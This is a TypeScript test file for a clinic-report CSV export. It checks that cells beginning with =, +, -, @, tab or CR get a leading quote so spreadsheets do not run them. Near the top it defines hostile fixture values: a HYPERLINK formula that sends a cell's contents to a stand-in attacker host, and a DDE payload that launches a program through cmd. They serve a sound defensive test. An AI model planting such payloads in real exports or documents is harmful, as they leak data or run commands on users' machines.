/**
 * No report cell runs as a formula in a spreadsheet (OWASP CSV injection): a participant and a clinic whose texts
 * start with =, +, -, @, TAB or CR come out with a leading ', in all five reports and in both flavours (plain and
 * for Excel), while numbers (a negative income included), the mobile number and the IDs stay exactly as stored.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { eq } from 'drizzle-orm';
import { camp, candidate } from '../db/schema.js';
import { bearer, createTestApp, demoAccounts, signIn, type TestApp } from '../testing/test-app.js';
import { readCsv } from './csv-reader.js';
import { insertReportFixture, RANGE, type ReportFixture } from './report-fixtures.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
const CLINIC = "@SUM(1+1)*cmd|' /C calc'!A0";
const REASON = '=1+2';

describe('report cells that a spreadsheet would run', () => {
  let t: TestApp;
  let fx: ReportFixture;
  let token: string;
  let mobile: string;

  before(async () => {
    t = await createTestApp();
    fx = await insertReportFixture(t.db);
    token = await signIn(t.app, demoAccounts.programCoordinator.email);
    await t.db.update(camp).set({ name: CLINIC }).where(eq(camp.id, fx.alpha));
    const [meena] = await t.db
      .update(candidate)
      .set({
        name: HYPERLINK,
        address: '+1',
        fatherName: '-2',
        spouseName: '@SUM(A1:A9)',
        occupation: '\tTAB',
        education: '\rCR',
        monthlyIncome: -2,
      })
      .where(eq(candidate.id, fx.meena.id))
      .returning({ mobileNo: candidate.mobileNo });
    mobile = meena.mobileNo!;
    // The participant saved through the tag flow (SavedPatient).
    await t.db.update(candidate).set({ address: '@x', reason: REASON }).where(eq(candidate.name, 'சுமதி'));
  });
  after(() => t.close());

  async function download(reportType: string, forExcel: boolean) {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/curable/camps-report',
      headers: bearer(token),
      payload: { ids: [fx.alpha], ...RANGE, reportType, forExcel },
    });
    assert.equal(res.statusCode, 200, res.body);
    const [header, ...rows] = readCsv(res.body);
    return { header: header as string[], rows };
  }

  const id = (value: string, forExcel: boolean) => (forExcel ? `="${value}"` : value);

  for (const forExcel of [false, true]) {
    const flavour = forExcel ? 'for Excel' : 'plain';

    test(`${flavour}: Outreachclinic, the clinic's name`, async () => {
      const { header, rows } = await download('Outreachclinic', forExcel);
      const row = rows.find((r) => r[0] === '7000001')!;
      assert.equal(row[header.indexOf('OUTREACHCLINICNAME')], `'${CLINIC}`);
      assert.equal(row[header.indexOf('NODOCTORS')], '2');
    });

    test(`${flavour}: Patientregistration, every text of the participant and of her clinic`, async () => {
      const { header, rows } = await download('Patientregistration', forExcel);
      const row = rows.find((r) => r[4] === id(fx.meena.registraionId, forExcel))!;
      assert.ok(row, 'her row');
      const cell = (name: string) => row[header.indexOf(name)];
      assert.deepEqual(
        ['OUTREACH CLINIC NAME', 'CANDIDATE NAME', 'ADDRESS', 'FATHER NAME', 'SPOUSE NAME', 'OCCUPATION', 'EDUCATION'].map(cell),
        [`'${CLINIC}`, `'${HYPERLINK}`, "'+1", "'-2", "'@SUM(A1:A9)", "'\tTAB", "'\rCR"],
      );
      // A number of a numeric column is written as it is, negative or not; the mobile number and the IDs are exact.
      assert.equal(cell('MONTHLY INCOME'), '-2');
      assert.equal(cell('MOBILE NO'), mobile);
      assert.equal(cell('OUTREACH CLINIC ID'), '7000001');
    });

    for (const reportType of ['Screening', 'Clinical_Evaluation']) {
      test(`${flavour}: ${reportType}, the participant's name`, async () => {
        const { rows } = await download(reportType, forExcel);
        const row = rows.find((r) => r[0] === id(fx.meena.registraionId, forExcel))!;
        assert.equal(row[1], `'${HYPERLINK}`);
      });
    }

    test(`${flavour}: SavedPatient, the address and the reason`, async () => {
      const { header, rows } = await download('SavedPatient', forExcel);
      const row = rows.find((r) => r[1] === 'சுமதி')!;
      assert.deepEqual([row[header.indexOf('ADDRESS')], row[header.indexOf('REASON')]], ["'@x", `'${REASON}`]);
    });
  }
});
